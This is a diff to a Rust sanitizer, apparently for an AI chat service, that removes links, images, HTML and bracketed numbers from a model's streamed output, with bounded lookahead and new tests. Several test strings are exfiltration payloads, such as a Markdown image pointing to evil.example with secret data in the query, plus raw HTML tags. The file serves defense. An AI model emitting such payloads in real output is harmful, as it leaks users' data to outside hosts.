@@ -1,17 +1,37 @@
-//! A model's text to the subset of Markdown that clients are promised: no images, no links, no forged markers.
+//! A model's text to the subset of Markdown that clients are promised: no images, no links, no HTML, no forged
+//! markers.
 //!
 //! Works on a stream: what may become a link or a marker is held back until it is decided, and nothing else is.
+//! Text is scanned without recursion and only so far ahead, so that no page and no model can make it slow.
 
-/// The longest that a bracket is held back, in characters. A longer one is no link that a person wrote.
-const LONGEST_HELD: usize = 2_000;
-
+/// How far ahead a bracket is looked for, in bytes. A longer one is no link that a person wrote.
+const LONGEST_HELD: usize = 1_000;
 /// What stands for a bracket around brackets: once those are removed, it could close over a number that is left.
 const HARMLESS: char = '(';
+/// What stands for `<` where HTML or an address could begin.
+const HARMLESS_ANGLE: char = '‹';
 
-/// Removes links, images and numbers in brackets from a text that comes in pieces.
+/// Removes links, images, HTML and numbers in brackets from a text that comes in pieces.
 #[derive(Debug, Default)]
 pub struct Cleaner {
     held: String,
+}
+
+/// Whether the text may go on.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum More {
+    MayCome,
+    NoMore,
+}
+
+/// What a `[`, `!` or `<` turns out to be.
+enum Decided {
+    /// Text: this letter, and go on after it.
+    Letter(char),
+    /// Nothing is left of it: go on after this many bytes.
+    Gone(usize),
+    /// A link: its words are text, from 1 to the first place; what follows goes on at the second.
+    Link(usize, usize),
 }
 
 impl Cleaner {
@@ -27,83 +47,98 @@ impl Cleaner {
     }
 
     fn decided(&mut self, more: More) -> String {
+        let text = std::mem::take(&mut self.held);
         let mut clean = String::new();
-        loop {
-            let Some(open) = self.held.find(['[', '!']) else {
-                clean.push_str(&self.held);
-                self.held.clear();
-                return clean;
-            };
-            clean.push_str(&self.held[..open]);
-            self.held.drain(..open);
-            match decide(&self.held, more) {
-                Some((length, text)) => {
-                    clean.push_str(&text);
-                    self.held.drain(..length);
+        // Links that are open: where their words end, and where to go on.
+        let mut links: Vec<(usize, usize)> = Vec::new();
+        let mut at = 0;
+        while at < text.len() {
+            if let Some(&(end, next)) = links.last()
+                && at == end
+            {
+                links.pop();
+                at = next;
+                continue;
+            }
+            let stop = links.last().map_or(text.len(), |(end, _)| *end);
+            let plain = text[at..stop].find(['[', '!', '<']).unwrap_or(stop - at);
+            clean.push_str(&text[at..at + plain]);
+            at += plain;
+            if at == stop {
+                continue;
+            }
+            match decide(&text[at..], more) {
+                Some(Decided::Letter(letter)) => {
+                    clean.push(letter);
+                    at += 1;
                 }
-                None if self.held.chars().count() > LONGEST_HELD => {
-                    let first = self.held.remove(0);
-                    clean.push(if first == '[' { HARMLESS } else { first });
+                Some(Decided::Gone(length)) => at += length,
+                Some(Decided::Link(end, next)) => {
+                    links.push((at + end, at + next));
+                    at += 1;
                 }
-                None => return clean,
+                // Inside a link everything is there already: only the outermost text can be open.
+                None => {
+                    text[at..].clone_into(&mut self.held);
+                    return clean;
+                }
             }
         }
-    }
-}
-
-/// Whether the text may go on.
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
-enum More {
-    MayCome,
-    NoMore,
-}
-
-/// What the beginning of a text, `[` or `!`, turns out to be: how many bytes it takes and what remains of them.
-/// `None` while that is open.
-fn decide(held: &str, more: More) -> Option<(usize, String)> {
-    let image = held.starts_with('!');
-    let bracket = usize::from(image);
-    match held[bracket..].chars().next() {
-        None if more == More::MayCome => return None,
-        None => return Some((1, "!".to_owned())),
-        Some('[') => {}
-        Some(_) => return Some((1, "!".to_owned())),
-    }
-    let label_end = match close(&held[bracket..], '[', ']') {
-        Close::At(end) => bracket + end,
-        Close::Open if more == More::MayCome => return None,
-        Close::Never | Close::Open => return Some((1, held[..1].to_owned())),
-    };
-    let label = &held[bracket + 1..label_end];
-    let target = match held[label_end + 1..].chars().next() {
-        None if more == More::MayCome => return None,
-        None => None,
-        Some('(') => match close(&held[label_end + 1..], '(', ')') {
-            Close::At(end) => Some(label_end + 1 + end),
-            Close::Open if more == More::MayCome => return None,
-            Close::Never | Close::Open => None,
-        },
-        Some(_) => None,
-    };
-    if let Some(end) = target {
-        let text = if image { String::new() } else { Cleaner::default().whole(label) };
-        return Some((end + 1, text));
-    }
-    let number = label.contains(|letter: char| letter.is_ascii_digit())
-        && label.chars().all(|letter| letter.is_ascii_digit() || ", ^".contains(letter));
-    if number || image {
-        return Some((label_end + 1, String::new()));
-    }
-    let nested = label.contains('[');
-    Some((1, if nested { HARMLESS } else { '[' }.to_string()))
-}
-
-impl Cleaner {
-    fn whole(mut self, text: &str) -> String {
-        let mut clean = self.push(text);
-        clean.push_str(&self.finish());
         clean
     }
+}
+
+/// What the beginning of a text, `[`, `!` or `<`, turns out to be; `None` while that is open.
+fn decide(text: &str, more: More) -> Option<Decided> {
+    let open = more == More::MayCome && text.len() <= LONGEST_HELD;
+    if let Some(rest) = text.strip_prefix('<') {
+        return match rest.chars().next() {
+            None if open => None,
+            Some(next) if next.is_ascii_alphabetic() || next == '/' || next == '!' => {
+                Some(Decided::Letter(HARMLESS_ANGLE))
+            }
+            _ => Some(Decided::Letter('<')),
+        };
+    }
+    let image = text.starts_with('!');
+    let bracket = usize::from(image);
+    match text[bracket..].chars().next() {
+        None if open => return None,
+        Some('[') => {}
+        _ => return Some(Decided::Letter('!')),
+    }
+    let first = if image { '!' } else { '[' };
+    let label_end = match close(&text[bracket..], '[', ']') {
+        Close::At(end) => bracket + end,
+        Close::Open if open => return None,
+        // Too far to see, or never: brackets that are removed within must not let it close over a number.
+        Close::Open if !image && text.len() > LONGEST_HELD => return Some(Decided::Letter(HARMLESS)),
+        Close::Never | Close::Open => return Some(Decided::Letter(first)),
+    };
+    let label = &text[bracket + 1..label_end];
+    let after = &text[label_end + 1..];
+    let target = match after.chars().next() {
+        None if open => return None,
+        Some(opening @ ('(' | '[')) => match close(after, opening, if opening == '(' { ')' } else { ']' }) {
+            Close::At(end) => Some(label_end + 1 + end + 1),
+            Close::Open if open => return None,
+            // An address that does not close is one all the same: it ends at the next space.
+            Close::Never | Close::Open if opening == '(' => {
+                Some(label_end + 1 + after.find(char::is_whitespace).unwrap_or(after.len()))
+            }
+            Close::Never | Close::Open => None,
+        },
+        _ => None,
+    };
+    let number = label.contains(|letter: char| letter.is_ascii_digit())
+        && label.chars().all(|letter| letter.is_ascii_digit() || ", ^".contains(letter));
+    Some(match target {
+        Some(end) if image || number => Decided::Gone(end),
+        Some(end) => Decided::Link(label_end, end),
+        None if image || number => Decided::Gone(label_end + 1),
+        None if label.contains('[') => Decided::Letter(HARMLESS),
+        None => Decided::Letter('['),
+    })
 }
 
 enum Close {
@@ -112,10 +147,11 @@ enum Close {
     Open,
 }
 
-/// Where the bracket at the beginning closes. A line end closes none.
+/// Where the bracket at the beginning closes. An empty line closes none, and it is not looked for far ahead.
 fn close(text: &str, open: char, close: char) -> Close {
     let mut depth = 0;
-    for (at, letter) in text.char_indices() {
+    let mut before = ' ';
+    for (at, letter) in text.char_indices().take_while(|(at, _)| *at <= LONGEST_HELD) {
         if letter == open {
             depth += 1;
         } else if letter == close {
@@ -123,9 +159,10 @@ fn close(text: &str, open: char, close: char) -> Close {
             if depth == 0 {
                 return Close::At(at);
             }
-        } else if letter == '\n' {
+        } else if letter == '\n' && before == '\n' {
             return Close::Never;
         }
+        before = letter;
     }
     Close::Open
 }
@@ -137,7 +174,10 @@ mod tests {
     use super::*;
 
     fn clean(text: &str) -> String {
-        Cleaner::default().whole(text)
+        let mut cleaner = Cleaner::default();
+        let mut clean = cleaner.push(text);
+        clean.push_str(&cleaner.finish());
+        clean
     }
 
     #[test]
@@ -145,6 +185,28 @@ mod tests {
         assert_eq!(clean("see ![x](https://evil.example/?q=secret) here"), "see  here");
         assert_eq!(clean("see [the rule](https://evil.example)."), "see the rule.");
         assert_eq!(clean("[![x](https://a.example)](https://b.example)!"), "!");
+    }
+
+    #[test]
+    fn a_link_over_two_lines_or_without_an_end_is_one_too() {
+        assert_eq!(clean("![a\nb](https://evil.example/?q=s) [x\ny](https://evil.example/)"), " x\ny");
+        assert_eq!(clean("[x](https://evil.example/?q=s and"), "x and");
+        assert_eq!(clean("[x][ref] and ![y][ref]"), "x and ");
+    }
+
+    #[test]
+    fn html_and_bare_addresses_in_angles_are_disarmed() {
+        assert_eq!(
+            clean("<img src=x> <https://evil.example> 1 < 2 <"),
+            "‹img src=x> ‹https://evil.example> 1 < 2 <"
+        );
+    }
+
+    #[test]
+    fn deep_and_long_brackets_take_neither_stack_nor_time() {
+        let deep = format!("{}{}", "[".repeat(20_000), "](a)".repeat(20_000));
+        assert!(clean(&deep).len() < deep.len());
+        assert_eq!(clean(&"[".repeat(20_000)).chars().count(), 20_000);
     }
 
     #[test]
@@ -157,12 +219,12 @@ mod tests {
         assert_eq!(clean("- [ ] todo [sic] wow! a[i] = 1"), "- [ ] todo [sic] wow! a[i] = 1");
         assert_eq!(clean("[[1]2] [[](x)3]"), "(2] (3]");
         assert_eq!(clean("an open [bracket"), "an open [bracket");
-        assert_eq!(clean("[\n1]"), "[\n1]");
+        assert_eq!(clean("[\n\n1]"), "[\n\n1]");
     }
 
     proptest! {
         #[test]
-        fn it_does_not_matter_how_the_text_is_cut(text in "[\\[\\]()!a1 \n]{0,40}", cuts in prop::collection::vec(1_usize..5, 1..40)) {
+        fn it_does_not_matter_how_the_text_is_cut(text in "[\\[\\]()<!a1 \n]{0,40}", cuts in prop::collection::vec(1_usize..5, 1..40)) {
             let mut cleaner = Cleaner::default();
             let mut pieces = String::new();
             let mut rest = text.as_str();
